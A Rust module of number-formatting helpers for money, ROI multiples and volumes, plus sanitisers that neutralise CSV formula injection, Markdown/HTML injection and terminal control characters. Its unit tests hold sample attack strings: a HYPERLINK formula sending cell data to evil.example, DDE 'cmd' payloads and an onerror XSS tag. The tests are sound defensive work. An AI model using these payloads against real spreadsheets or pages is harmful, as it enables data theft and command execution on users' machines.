//! Human-readable numbers: money with its currency, multiples, volumes.
//!
//! Rounding here is for display only; the exact figures stay in the engine and in JSON output.

use rust_decimal::{Decimal, RoundingStrategy};

/// The symbol put before amounts of a currency, or the code and a space.
pub fn currency_prefix(currency: &str) -> String {
    match currency {
        "USD" => "$".to_owned(),
        "EUR" => "€".to_owned(),
        "GBP" => "£".to_owned(),
        "JPY" => "¥".to_owned(),
        "INR" => "₹".to_owned(),
        other => format!("{other} "),
    }
}

/// Groups the integer digits of a plain decimal string in threes: `1234567.5` → `1,234,567.5`.
fn group_digits(text: &str) -> String {
    let (sign, rest) = text.strip_prefix('-').map_or(("", text), |r| ("-", r));
    let (int, frac) = rest
        .split_once('.')
        .map_or((rest, None), |(i, f)| (i, Some(f)));
    let mut out = String::with_capacity(text.len() + int.len() / 3);
    out.push_str(sign);
    match int.parse::<u64>() {
        Ok(whole) => out.push_str(&group_thousands(whole)),
        Err(_) => out.push_str(int),
    }
    if let Some(frac) = frac {
        out.push('.');
        out.push_str(frac);
    }
    out
}

/// Rounds to `places` decimal places, half away from zero, keeping trailing zeros.
fn fixed(value: Decimal, places: u32) -> String {
    let mut rounded = value.round_dp_with_strategy(places, RoundingStrategy::MidpointAwayFromZero);
    rounded.rescale(places);
    if rounded.is_zero() {
        rounded.set_sign_positive(true);
    }
    rounded.to_string()
}

/// Decimal places that show `value` with about three significant digits (at least `min`).
fn places_for(value: Decimal, min: u32) -> u32 {
    let abs = value.abs();
    if abs.is_zero() || abs >= Decimal::ONE {
        return min;
    }
    let mut places = 0;
    let mut scaled = abs;
    while scaled < Decimal::ONE && places < 20 {
        scaled *= Decimal::TEN;
        places += 1;
    }
    (places + 2).max(min)
}

/// Money with sensible precision: cents from 1 up, three significant digits below
/// (`$0.00042`), thousands grouped (`$12,345.67`).
pub fn money(value: Decimal, currency: &str) -> String {
    let places = places_for(value, 2);
    let mut text = group_digits(&fixed(value, places));
    if places > 2 {
        // Below a cent, trailing zeros add nothing: $0.00042, not $0.000420.
        let trimmed = text
            .trim_end_matches('0')
            .len()
            .max(text.find('.').map_or(0, |p| p + 3));
        text.truncate(trimmed);
    }
    let prefix = currency_prefix(currency);
    match text.strip_prefix('-') {
        Some(rest) => format!("-{prefix}{rest}"),
        None => format!("{prefix}{text}"),
    }
}

/// An input amount exactly as written (`$1.006`, `$2.50`, `$0.0000012`), thousands grouped:
/// for assumptions, where rounding would misquote a price.
pub fn money_exact(value: Decimal, currency: &str) -> String {
    let text = group_digits(&value.to_string());
    let prefix = currency_prefix(currency);
    match text.strip_prefix('-') {
        Some(rest) => format!("-{prefix}{rest}"),
        None => format!("{prefix}{text}"),
    }
}

/// An ROI multiple: `132×`, `13.2×`, `4.82×`, `0.153×`.
pub fn multiple(value: Decimal) -> String {
    let abs = value.abs();
    let places = if abs >= Decimal::ONE_HUNDRED {
        0
    } else if abs >= Decimal::TEN {
        1
    } else {
        places_for(value, 2)
    };
    format!("{}×", group_digits(&fixed(value, places)))
}

/// A simulated (`f64`) ROI multiple, with the same precision as [`multiple`]: `—` where it is
/// undefined, `∞` at zero cost.
pub fn multiple_f64(value: f64) -> String {
    if value.is_nan() {
        "—".to_owned()
    } else if value.is_infinite() {
        "∞".to_owned()
    } else {
        Decimal::from_f64_retain(value).map_or_else(|| "—".to_owned(), multiple)
    }
}

/// A plain ratio (cost-to-value): `0.207`.
pub fn ratio(value: Decimal) -> String {
    group_digits(&fixed(value, places_for(value, 3).max(3)))
}

/// A figure exactly as written, its thousands grouped: `12,000`, `3.875`.
pub fn grouped(value: Decimal) -> String {
    group_digits(&value.normalize().to_string())
}

/// A whole volume with grouped digits: `1,250,000`.
pub fn count(value: u64) -> String {
    group_digits(&value.to_string())
}

/// A decimal count (tokens) rounded to a whole number, grouped.
pub fn whole(value: Decimal) -> String {
    group_digits(&fixed(value, 0))
}

/// A physical quantity (Wh, g, kWh) readable: three significant figures below 1,000, whole
/// and grouped above: `0.0605`, `302`, `12,400`.
pub fn significant(value: Decimal) -> String {
    if value.abs() >= Decimal::ONE_THOUSAND {
        whole(value.round())
    } else {
        value
            .round_sf(3)
            .map_or_else(|| value.to_string(), |v| v.normalize().to_string())
    }
}

/// A simulated (`f64`) quantity at three significant figures; `—` where undefined.
pub fn significant_f64(value: f64) -> String {
    if value.is_finite() {
        Decimal::from_f64_retain(value).map_or_else(|| "—".to_owned(), significant)
    } else {
        "—".to_owned()
    }
}

/// A simulated share (the odds of a band, of payback) as a whole percentage: `85 %`. Only a
/// share that is exactly 0 or 1 reads `0 %` or `100 %`; one that rounds there but is not reads
/// `<1 %` or `>99 %`, so a rare outcome is never shown as impossible or certain. `—` where
/// undefined.
pub fn percent_f64(share: f64) -> String {
    let rounded = (share * 100.0).round();
    if !share.is_finite() {
        "—".to_owned()
    } else if rounded <= 0.0 && share > 0.0 {
        "<1 %".to_owned()
    } else if rounded >= 100.0 && share < 1.0 {
        ">99 %".to_owned()
    } else {
        format!("{rounded:.0} %")
    }
}

/// A volume in short form for axes and crowded places: `950`, `12k`, `1.5M`, `3B`.
pub fn compact(value: u64) -> String {
    const UNITS: [(u64, &str); 4] = [
        (1_000_000_000_000, "T"),
        (1_000_000_000, "B"),
        (1_000_000, "M"),
        (1_000, "k"),
    ];
    for (size, unit) in UNITS {
        if value >= size {
            let whole = value / size;
            let tenth = (value % size) * 10 / size;
            return if whole < 10 && tenth > 0 {
                format!("{whole}.{tenth}{unit}")
            } else {
                format!("{whole}{unit}")
            };
        }
    }
    value.to_string()
}

/// Whether `text` is a plain decimal number as the CSV writers print figures (`-2.5`, `1200`,
/// `0.00042`, `1e-7`): a spreadsheet reads it as that number, so it is written as it is.
fn is_plain_number(text: &str) -> bool {
    let unsigned = text.strip_prefix('-').unwrap_or(text);
    let (mantissa, exponent) = unsigned
        .split_once(['e', 'E'])
        .map_or((unsigned, None), |(m, e)| (m, Some(e)));
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['-', '+']).unwrap_or(e);
        !e.is_empty() && digits(e)
    });
    !(int.is_empty() && frac.is_empty()) && digits(int) && digits(frac) && exponent_ok
}

/// A CSV field, the one way every CSV this crate writes spells a cell.
///
/// Text a spreadsheet would evaluate as a formula (starting with `=`, `+`, `-`, `@`, a tab or
/// a carriage return, as OWASP lists for CSV injection) gets a leading `'` and quotes, so
/// `=HYPERLINK(…)` in a design name stays text; a plain number such as `-2.5` stays a number.
/// A field holding a comma, a quote or a line break is quoted, inner quotes doubled.
pub fn csv_field(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(text);
    if formula {
        format!("\"'{}\"", text.replace('"', "\"\""))
    } else if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// Whether `c` would end a line somewhere: a control character (CR, LF, tab, NUL, ESC, …) or a
/// Unicode line or paragraph separator.
fn breaks_lines(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// The characters Markdown (`CommonMark` and GitHub's) reads as syntax inside a line: emphasis,
/// code, links and images, raw HTML, entities, tables, strikethrough, headings.
const MARKDOWN_INLINE: &[char] = &[
    '\\', '`', '*', '_', '[', ']', '<', '>', '|', '!', '~', '&', '#',
];

/// User text (a name, a note, a source's description, a title, a message quoting them) as
/// inert Markdown, the one way every Markdown this crate writes spells it.
///
/// Every control character becomes a space, so no user text starts a new line or block; the
/// characters Markdown interprets inline are backslash-escaped (so `<img …>` is text, not HTML,
/// and `[x](https://…)` is not a link); and a start that would open a block where the text
/// begins a line (`- `, `+ `, `1. `, `===`, `---`) is escaped too. Leading spaces are dropped
/// (they would only indent).
pub fn md_text(text: &str) -> String {
    let flat: String = text
        .chars()
        .map(|c| if breaks_lines(c) { ' ' } else { c })
        .collect();
    let flat = flat.trim_start();
    let mut out = String::with_capacity(flat.len() + 8);
    // A list item, a thematic break or a setext underline, where the text starts a line.
    let second = flat.chars().nth(1);
    let opens_block = match flat.chars().next() {
        Some('-') => second.is_none_or(|c| c == ' ' || c == '-'),
        Some('+') => second.is_none_or(|c| c == ' '),
        Some('=') => true,
        _ => false,
    };
    if opens_block {
        out.push('\\');
    }
    // An ordered list item: digits, then `.` or `)`, then a space or the end.
    let digits = flat.chars().take_while(char::is_ascii_digit).count();
    let ordered = (1..=9).contains(&digits) && {
        let mut rest = flat[digits..].chars();
        matches!(rest.next(), Some('.' | ')')) && rest.next().is_none_or(|c| c == ' ')
    };
    for (i, c) in flat.chars().enumerate() {
        if MARKDOWN_INLINE.contains(&c) || (ordered && i == digits) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Text inside a Markdown code span (`` `…` ``), such as a field path that quotes a name: no
/// line break, no backtick to close the span early, no `|` to split a table cell.
pub fn md_code(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '`' => out.push('\''),
            '|' => out.push_str("\\|"),
            c if breaks_lines(c) => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// Text from an untrusted file (a model id from a downloaded price map) made harmless for a
/// terminal: every control character (escape sequences, line breaks, tabs), every Unicode line
/// or paragraph separator and every bidirectional mark, override or isolate becomes U+FFFD.
pub fn terminal_text(text: &str) -> String {
    text.chars()
        .map(|c| {
            let bidi = matches!(
                c,
                '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
            );
            if breaks_lines(c) || bidi {
                '\u{fffd}'
            } else {
                c
            }
        })
        .collect()
}

/// Groups the digits of a whole number in threes: 1000000 → "1,000,000".
pub fn group_thousands(value: u64) -> String {
    let digits = value.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// An exact decimal as a plain string without trailing zeros (`"0.00825"`, `"3975"`).
pub fn exact(value: Decimal) -> String {
    value.normalize().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::str::FromStr;

    fn d(text: &str) -> Decimal {
        Decimal::from_str(text).unwrap()
    }

    #[test]
    fn simulated_shares_never_round_to_impossible_or_certain() {
        assert_eq!(percent_f64(0.0), "0 %");
        assert_eq!(percent_f64(1.0), "100 %");
        assert_eq!(percent_f64(0.85), "85 %");
        assert_eq!(percent_f64(0.0002), "<1 %");
        assert_eq!(percent_f64(0.9998), ">99 %");
        assert_eq!(percent_f64(0.005), "1 %");
        assert_eq!(percent_f64(0.994), "99 %");
        assert_eq!(percent_f64(f64::NAN), "—");
    }

    #[test]
    fn money_keeps_fractions_of_a_cent_readable() {
        assert_eq!(money(d("0.00042"), "USD"), "$0.00042");
        assert_eq!(money(d("0.000423456"), "USD"), "$0.000423");
        assert_eq!(money(d("0.0132"), "USD"), "$0.0132");
        assert_eq!(money(d("12345.675"), "USD"), "$12,345.68");
        assert_eq!(money(d("-2.5"), "EUR"), "-€2.50");
        assert_eq!(money(d("3"), "CHF"), "CHF 3.00");
        assert_eq!(money(d("0"), "USD"), "$0.00");
    }

    #[test]
    fn multiples_and_volumes() {
        assert_eq!(multiple(d("132.4")), "132×");
        assert_eq!(multiple(d("13.25")), "13.3×");
        assert_eq!(multiple(d("4.8249")), "4.82×");
        assert_eq!(multiple(d("0.15349")), "0.153×");
        assert_eq!(count(1_250_000), "1,250,000");
        assert_eq!(compact(950), "950");
        assert_eq!(compact(12_000), "12k");
        assert_eq!(compact(1_500_000), "1.5M");
        assert_eq!(compact(3_000_000_000), "3B");
    }

    #[test]
    fn csv_fields_with_separators_or_line_breaks_are_quoted() {
        assert_eq!(super::csv_field("plain"), "plain");
        assert_eq!(super::csv_field("a,b"), "\"a,b\"");
        assert_eq!(super::csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(super::csv_field("line\rbreak"), "\"line\rbreak\"");
        assert_eq!(super::csv_field("line\nbreak"), "\"line\nbreak\"");
    }

    #[test]
    fn user_text_is_inert_markdown() {
        // A lone CR cannot start a heading; HTML, links and images are text.
        assert_eq!(
            md_text("ok\r# Approved by Finance"),
            "ok \\# Approved by Finance"
        );
        assert_eq!(
            md_text("<img src=x onerror=alert(1)>"),
            "\\<img src=x onerror=alert(1)\\>"
        );
        assert_eq!(
            md_text("[x](https://evil.example)"),
            "\\[x\\](https://evil.example)"
        );
        assert_eq!(
            md_text("![i](https://e.x/a.png)"),
            "\\!\\[i\\](https://e.x/a.png)"
        );
        assert_eq!(
            md_text("a|b\\c `d` *e* _f_ ~g~ &amp;"),
            "a\\|b\\\\c \\`d\\` \\*e\\* \\_f\\_ \\~g\\~ \\&amp;"
        );
        assert_eq!(
            md_text("line\nbreak\ttab\u{1b}[2J\0"),
            "line break tab \\[2J "
        );
        // Starts that would open a block.
        assert_eq!(md_text("- item"), "\\- item");
        assert_eq!(md_text("---"), "\\---");
        assert_eq!(md_text("+ item"), "\\+ item");
        assert_eq!(md_text("==="), "\\===");
        assert_eq!(md_text("1. first"), "1\\. first");
        assert_eq!(md_text("2024) year"), "2024\\) year");
        assert_eq!(md_text("    code"), "code");
        // Figures and plain names are left alone.
        for plain in [
            "-$2.50",
            "+4.2 %",
            "1,234",
            "GPT-4o API",
            "1.5M",
            "3.5 (beta)",
        ] {
            assert_eq!(md_text(plain), plain);
        }
    }

    #[test]
    fn code_spans_hold_no_line_break_backtick_or_cell_break() {
        assert_eq!(md_code("a`b|c\nd"), "a'b\\|c d");
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_evaluate_are_text() {
        let cases = [
            (
                "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Open pricing\")",
                "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"Open pricing\"\")\"",
            ),
            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
            ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
            ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("-", "\"'-\""),
            ("-e5", "\"'-e5\""),
        ];
        for (text, expected) in cases {
            assert_eq!(super::csv_field(text), expected, "{text:?}");
        }
        // Figures stay figures.
        for number in [
            "-2.5",
            "-1",
            "0.00042",
            "-0.000012",
            "12",
            "1e-7",
            "-3E+5",
            "-.5",
        ] {
            assert_eq!(super::csv_field(number), number);
        }
    }
}
